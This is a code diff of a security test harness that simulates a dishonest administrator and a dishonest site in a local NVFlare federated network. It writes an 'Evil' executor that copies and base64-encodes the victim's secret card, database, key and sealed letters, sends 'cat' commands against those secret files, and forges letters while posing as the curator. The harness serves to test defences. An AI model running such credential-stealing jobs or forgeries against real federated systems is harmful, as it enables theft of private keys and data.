@@ -1,8 +1,9 @@
-"""One network in which a site and an administrator are dishonest; writes what they came to.
+"""A run over a network in which an owner and an administrator are dishonest; writes what they obtained.
 
-NVFlare runs as a user of its own, the home belongs to this process's user, which must be root.
+NVFlare runs as a user of its own. The homes belong to this process's user, which must be root.
 """
 
+import base64
 import json
 import os
 import shutil
@@ -13,29 +14,60 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+from courier_driver import CONSUMER, CURATOR, CourierWorld, market_files
 from loopback import LoopbackNetwork
 
 import likeset
+from likeset.errors import BadDocument
+from likeset.homes.home import Home, make_home
+from likeset.homes.mail import Mail, StoredLetter
 from likeset.transports.stores import open_store
+from likeset.transports.sync import Look, look_once, opened_syncs
+from likeset.trust.letters import PairKeys, Post, file_name
 
 SUPER = "super@likeset.local"
-VICTIM, HOSTILE = "victim", "hostile"
 UID = 4001
-FOLDER, NAME, LETTER = "a" * 32, "0" * 64, b"a sealed letter"
-_SECONDS = 100.0
+_SECONDS = 300.0
 
 
 def wait_for(happened: Callable[[], bool]) -> None:
     end = time.monotonic() + _SECONDS
-    while not happened() and time.monotonic() < end:
+    while not happened():
+        if time.monotonic() > end:
+            raise SystemExit("something did not happen in time")
         time.sleep(0.3)
 
 
-def submitted_by_super(net: LoopbackNetwork, folder: Path, home: Path) -> str:
-    """How a job ends that brings code which copies the victim's home, submitted by an administrator of role super."""
+def look(world: CourierWorld, name: str) -> Look:
+    with opened_syncs(world.home(name), [world.address(name)]) as opened:
+        found, troubles = look_once(opened)
+    if troubles:
+        raise troubles[0]
+    return found
+
+
+def letters_of(world: CourierWorld, name: str) -> list[StoredLetter]:
+    """The letters that a home wrote."""
+    with Home(world.home(name)) as home:
+        mail = Mail(home)
+        return [row for run in mail.runs() for row in mail.letters(run) if row.way == "out"]
+
+
+def offered(world: CourierWorld, victim: str) -> StoredLetter | None:
+    """All sync until the victim's offer is posted; the curator then syncs no more, so that it stays."""
+    for name in (CONSUMER, *world.owners):
+        look(world, name)
+    found = next((row for row in letters_of(world, victim) if row.kind == "offer" and row.state == "posted"), None)
+    if found is None:
+        look(world, CURATOR)
+    return found
+
+
+def submitted_by_super(net: LoopbackNetwork, folder: Path, victim: str, paths: dict[str, Path]) -> None:
+    """A job with code that copies the victim's files, submitted by an administrator of role super."""
     job = folder / "job"
     (job / "app" / "config").mkdir(parents=True)
-    about = {"name": "x", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["server", VICTIM]}}
+    about = {"name": "x", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["server", victim]}}
     (job / "meta.json").write_text(json.dumps(about))
     server = {"format_version": 2, "workflows": [{"id": "evil", "path": "evil.Evil", "args": {}}], "components": []}
     evil = {"tasks": ["*"], "executor": {"path": "evil.Evil", "args": {}}}
@@ -44,67 +76,109 @@ def submitted_by_super(net: LoopbackNetwork, folder: Path, home: Path) -> str:
         (job / "app" / "config" / f"config_fed_{side}.json").write_text(json.dumps(config))
     (job / "app" / "custom").mkdir()
     loot = folder / "said" / "loot"
-    code = f"""import sys
+    code = f"""import base64, json, os, sys
 from nvflare.apis.executor import Executor
 
 class Evil(Executor):
     def execute(self, *_):
         pass
 
-if "/prod_00/{VICTIM}" in " ".join(sys.orig_argv):
-    for path in ({str(home / "card.secret")!r}, {str(net.mailbox(VICTIM) / "out" / FOLDER / NAME)!r}):
+if "/prod_00/{victim}" in " ".join(sys.orig_argv):
+    found = {{}}
+    for name, path in { ({name: str(path) for name, path in paths.items()})!r}.items():
         try:
-            found = open(path, "rb").read().decode()
+            found[name] = base64.b64encode(open(path, "rb").read()).decode()
         except OSError as error:
-            found = type(error).__name__
-        with open({str(loot)!r}, "a") as file:
-            file.write(found + "\\n")
+            found[name] = type(error).__name__
+    with open({str(loot) + ".part"!r}, "w") as file:
+        json.dump(found, file)
+    os.rename({str(loot) + ".part"!r}, {str(loot)!r})
 """
     (job / "app" / "custom" / "evil.py").write_text(code)
     with net.session(SUPER) as session:
-        try:
-            name = session.submit_job(str(job))
-        except Exception as error:
-            return type(error).__name__
-        wait_for(lambda: str(session.get_job_meta(name).get("status")).startswith("FINISHED") or loot.exists())
-        return str(session.get_job_meta(name).get("status"))
+        session.submit_job(str(job))
+        wait_for(loot.exists)
+
+
+def posed_as_curator(world: CourierWorld, victim: str, hostile: str, offer: StoredLetter) -> dict[str, Any]:
+    """An owner with a card of the curator's name, and with the names of the folders between victim and curator."""
+    with (
+        make_home(world.folder / "imposter", name=CURATOR, roles=("curator",)) as imposter,
+        Home(world.home(victim)) as attacked,
+        Home(world.home(CURATOR)) as curator,
+    ):
+        pair = PairKeys.between(imposter.secret, attacked.card)
+        incoming = PairKeys.between(attacked.secret, curator.card).incoming_folder
+    store = open_store(world.address(hostile))
+    store.list(offer.folder)  # asks the courier for the victim's letters to the curator
+    copy = world.network.mailbox(hostile) / "in" / offer.folder / offer.name
+    wait_for(copy.exists)
+    sealed = copy.read_bytes()
+    try:
+        pair.unwrap(sealed)
+        opened = True
+    except BadDocument:
+        opened = False
+    before = len(letters_of(world, victim))
+    forged = [sealed, pair.wrap(Post("letter", bytes(32), b"release"))]
+    for data in forged:
+        store.write(incoming, file_name(data), data)
+    came = [world.network.mailbox(victim) / "in" / incoming / file_name(data) for data in forged]
+    wait_for(lambda: all(path.exists() for path in came))
+    found = look(world, victim)
+    more = len(letters_of(world, victim)) - before
+    return {
+        "letter": base64.b64encode(sealed).decode(),
+        "opened": opened,
+        "heard": found.taken,
+        "strangers": found.strangers,
+        "answers": more,
+    }
 
 
 def main(folder: Path) -> dict[str, Any]:
     folder.chmod(0o711)
-    home = folder / "home"
-    home.mkdir(mode=0o700)
-    (home / "card.secret").write_text("likeset card secret")
-    (home / "card.secret").chmod(0o600)
+    files, owners = market_files(folder, 2)
+    victim, hostile = owners
+    world = CourierWorld(folder / "world", owners, Path(files["schema"]))
     # NVFlare's user may find another interpreter than this one's.
     packages = [Path(__file__).parent, Path(likeset.__file__).parents[1], sysconfig.get_path("purelib")]
     paths = os.pathsep.join(map(str, packages))
     environment = {**os.environ, "PYTHONPATH": paths, "LIKESET_ATTACK": str(folder / "said" / "x")}
-    net = LoopbackNetwork(folder / "network", (VICTIM, HOSTILE), environment, uid=UID, administrators={SUPER: "super"})
+    sites = (victim, hostile, CURATOR, CONSUMER)
+    net = LoopbackNetwork(folder / "network", sites, environment, uid=UID, administrators={SUPER: "super"})
+    world.network = net
     net.provision()
     net.settle()
     (folder / "said").mkdir()
     shutil.chown(folder / "said", UID, UID)
-    resources = net.kit(HOSTILE) / "local" / "resources.json"
+    resources = net.kit(hostile) / "local" / "resources.json"
     document = json.loads(resources.read_text())
     document["components"].append({"id": "hostile", "path": "hostile_site.Hostile", "args": {}})
     resources.write_text(json.dumps(document))
-    store = open_store(f"courier://{net.mailbox(VICTIM)}")
-    store.write(FOLDER, NAME, LETTER)
-    commands = {
-        "home": f"cat {home / 'card.secret'}",
-        "letters": f"cat {net.mailbox(VICTIM) / 'out' / FOLDER / NAME}",
-    }
-    (folder / "said" / "orders.json").write_text(json.dumps({"victim": VICTIM, "commands": commands}))
+    world.start("one", files["target"], size=20, epsilon=4.0)
     with net:
-        net.start(net.server, VICTIM)
-        time.sleep(8)
-        net.start(HOSTILE)
+        net.start(net.server, *sites)
+        wait_for(lambda: offered(world, victim) is not None)
+        offer = offered(world, victim)
+        assert offer is not None
+        letter = net.mailbox(victim) / "out" / offer.folder / offer.name
+        stolen = {"card": world.home(victim) / "card.secret", "database": world.home(victim) / "home.sqlite"}
+        stolen |= {"key": next((world.home(victim) / "keys").iterdir()), "letter": letter}
+        commands = {name: f"cat {path}" for name, path in stolen.items() if name != "letter"}
+        commands["letter"] = f"grep -b '' {letter}"  # NVFlare cannot return the output of cat if it is no text
+        orders = folder / "said" / "orders.part"
+        orders.write_text(json.dumps({"victim": victim, "commands": commands}))
+        orders.rename(orders.with_suffix(".json"))
         wait_for((folder / "said" / "x").exists)
         found: dict[str, Any] = {"site": json.loads((folder / "said" / "x").read_text())}
-        found["super"] = submitted_by_super(net, folder, home)
-        loot = folder / "said" / "loot"
-        found["loot"] = loot.read_text().splitlines() if loot.exists() else []
+        submitted_by_super(net, folder, victim, stolen)
+        found["super"] = json.loads((folder / "said" / "loot").read_text())
+        found["curator"] = posed_as_curator(world, victim, hostile, offer)
+    found["letter"] = base64.b64encode(letter.read_bytes()).decode()
+    with Home(world.home(victim)) as home:
+        offers_made = [stored.message for stored in home.database.messages(run="one")]
+    found["rows"] = base64.b64encode(max(offers_made, key=len)).decode()
     return found
 
 
